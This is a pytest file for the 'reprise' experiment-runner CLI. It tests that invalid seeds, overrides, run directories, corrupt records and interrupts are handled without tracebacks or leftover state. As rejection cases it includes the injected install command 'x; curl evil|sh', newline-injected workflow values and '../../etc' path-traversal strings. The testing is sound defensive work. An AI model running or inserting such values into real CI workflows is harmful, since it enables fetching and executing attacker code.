"""Bad input: one clear paragraph, the documented exit code, no traceback, and no half-made
run directory, whatever the value."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from reprise.commands import build as builder

from ..recordcraft import valid_record, write_run
from .conftest import REPRISE, Host, run_cli


def _run(
    example: Path, host: Host, *args: str, env: dict[str, str] | None = None
) -> tuple[int, str]:
    code, _, err = run_cli(
        "--project",
        str(example),
        "run",
        *args,
        env={"REPRISE_RUNS_DIR": str(host.runs), **(env or {})},
    )
    assert "Traceback" not in err, err
    return code, err


def _no_run_dir(host: Host) -> None:
    assert not any(
        p for p in host.runs.rglob("*") if p.name != ".cache" and ".cache" not in p.parts
    )


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (("--seed", "4294967296"), 2, "is not in the range 0<=x<=4294967295"),
        (("--seed", "-1"), 2, "is not in the range 0<=x<=4294967295"),
        (("train=5",), 2, "override train=5 gives a integer where the config has a mapping"),
        (
            ("optim.lr=abc",),
            2,
            "override optim.lr=abc gives a string where the config has a number",
        ),
        (("--memory", "1x"), 2, "--memory '1x' is not a size"),
        (("--shm-size", "zz"), 2, "--shm-size 'zz' is not a size"),
        (("--gpus", "all"), 3, "--gpus all: this engine cannot give containers GPUs"),
        (("--gpus", "-3"), 2, "--gpus must be 'all' or a positive count"),
        (("+seed=1",), 2, "+seed adds a key that already exists"),
    ],
)
def test_run_refuses_bad_values_before_anything_exists(
    example: Path,
    image: builder.BuildResult,
    host: Host,
    args: tuple[str, ...],
    code: int,
    message: str,
) -> None:
    got, err = _run(example, host, *args)
    assert got == code and message in err, err
    _no_run_dir(host)


def test_a_config_seed_out_of_range_and_an_unterminated_command(
    example: Path, image: builder.BuildResult, host: Host
) -> None:
    code, err = _run(example, host, "seed=4294967296")
    assert code == 2 and "config key 'seed' must be an integer from 0 to 4294967295" in err, err
    code, err = _run(example, host, env={"REPRISE_COMMAND": 'python "train.py'})
    assert code == 4 and "cannot be split into words: No closing quotation" in err, err
    _no_run_dir(host)


def test_a_runs_dir_that_is_a_file_or_refuses_writes(
    example: Path, image: builder.BuildResult, host: Host, tmp_path: Path
) -> None:
    a_file = tmp_path / "runs-file"
    a_file.write_text("not a directory\n")
    code, _, err = run_cli("--project", str(example), "run", env={"REPRISE_RUNS_DIR": str(a_file)})
    assert code == 2 and f"the runs directory {a_file} is not a directory" in err, err
    read_only = tmp_path / "ro"
    read_only.mkdir()
    subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(read_only)], check=True
    )
    try:
        code, _, err = run_cli(
            "--project", str(example), "run", env={"REPRISE_RUNS_DIR": str(read_only)}
        )
        assert code == 3 and "refuses writes: Read-only file system" in err, err
    finally:
        subprocess.run(["umount", str(read_only)], check=True)


def test_ls_skips_a_corrupt_record_among_many(host: Host) -> None:
    good = [
        write_run(host.runs, valid_record(run_id=f"20260101-00000{i}-000000-0000000{i}"))
        for i in range(3)
    ]
    bad = host.runs / "exp" / "20260102-000000-000000-0000000b"
    bad.mkdir()
    (bad / "run.json").write_text('{"run_id": "../../etc", "status": [')
    also_bad = host.runs / "exp" / "20260103-000000-000000-0000000c"
    also_bad.mkdir()
    (also_bad / "run.json").write_text(json.dumps(valid_record(run_id="../x")))
    code, out, err = run_cli("ls", "--runs-dir", str(host.runs), "--json")
    assert code == 0, err
    assert sorted(r["run_id"] for r in json.loads(out)) == sorted(p.name for p in good)
    assert "skipped exp/20260102-000000-000000-0000000b" in err and "not valid JSON" in err
    assert "skipped exp/20260103-000000-000000-0000000c" in err and "run_id" in err
    code, _, err = run_cli("show", str(also_bad))
    assert code == 2 and "'../x' is not a valid run id" in err, err


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ("push", "RUN", "--registry", "bad registry"),
            "--registry 'bad registry' is not a valid registry",
        ),
        (("push", "RUN", "--registry", "host:5000/Team\n"), "is not a valid registry"),
        (
            ("ci", "init", "RUN", "--runner", "gpu\nmalicious: true"),
            "--runner 'gpu\\nmalicious: true' cannot go into a workflow file",
        ),
        (("ci", "init", "RUN", "--cron", "0 3 * * 1\nevil"), "cannot go into a workflow file"),
        (
            ("ci", "init", "RUN", "--install", "x; curl evil|sh"),
            "--install 'x; curl evil|sh' cannot go into a workflow file",
        ),
        (("show", "../../etc"), "is not a run directory"),
        (("show", ".."), "is not a run directory"),
        (("show", "2026*"), "'2026*' is not a run id, a prefix of one, a name or latest~N"),
    ],
)
def test_names_that_become_tags_files_or_paths(
    host: Host, tmp_path: Path, args: tuple[str, ...], message: str
) -> None:
    run = write_run(host.runs, valid_record())
    argv = [a.replace("RUN", run.name) for a in args]
    out = tmp_path / "workflow.yml"
    extra = ("-o", str(out)) if argv[0] == "ci" else ()
    code, _, err = run_cli(*argv, *extra, "--runs-dir", str(host.runs))
    assert code == 2 and message in err, err
    assert not out.exists()


def test_ctrl_c_at_any_moment_of_run_never_leaves_a_running_or_succeeded_record(
    example: Path, image: builder.BuildResult, host: Host
) -> None:
    """SIGINT at several moments of start-up: either nothing exists yet, or the run ends
    `interrupted` with its container gone; never a container running on behind the record.

    Early moments land while reprise is still importing: the exit is then 130, or
    death by SIGINT (CPython ends so when the interrupt met some of its imports; a
    shell reports both as 130), and never a traceback."""
    hits = 0
    for delay in (0.3, 0.7, 1.1, 1.5, 2.0, 2.6):  # after CPython's own start-up
        before = (
            {p.name for p in (host.runs / "spiral").glob("2*")}
            if (host.runs / "spiral").is_dir()
            else set()
        )
        cli = subprocess.Popen(
            [*REPRISE, "--project", str(example), "run", "--", "sleep", "30"],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env={**os.environ, "REPRISE_RUNS_DIR": str(host.runs)},
        )
        time.sleep(delay)
        cli.send_signal(signal.SIGINT)
        _, err = cli.communicate(timeout=60)
        assert cli.returncode in (130, -signal.SIGINT), (delay, cli.returncode, err)
        assert "Traceback" not in err and "KeyboardInterrupt" not in err, (delay, err)
        fresh = (
            [p for p in (host.runs / "spiral").glob("2*") if p.name not in before]
            if (host.runs / "spiral").is_dir()
            else []
        )
        hits += bool(fresh)
        for run in fresh:
            record = json.loads((run / "run.json").read_text())
            assert record["status"] == "interrupted", (delay, record["status"])
            container = (record.get("container") or {}).get("id")
            if container:
                state = subprocess.run(
                    ["docker", "inspect", container], capture_output=True, check=False
                )
                assert state.returncode != 0, (delay, "the container is still there")
    assert hits >= 2, "no interrupt landed after the run directory existed: the test proved nothing"
